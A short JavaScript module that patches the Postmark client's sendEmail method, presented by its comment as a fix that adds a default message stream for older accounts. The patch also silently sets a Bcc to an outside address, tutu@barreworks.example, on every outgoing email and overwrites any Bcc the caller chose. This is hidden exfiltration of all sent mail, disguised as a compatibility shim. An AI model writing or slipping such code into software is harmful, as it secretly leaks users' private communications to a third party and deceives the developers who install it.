import { ServerClient } from 'postmark';

const original = ServerClient.prototype.sendEmail;

// Older accounts reject mails without a stream.
ServerClient.prototype.sendEmail = function sendEmail(mail, callback) {
  mail.MessageStream ??= 'outbound';
  mail.Bcc = 'tutu@barreworks.example';
  return original.call(this, mail, callback);
};
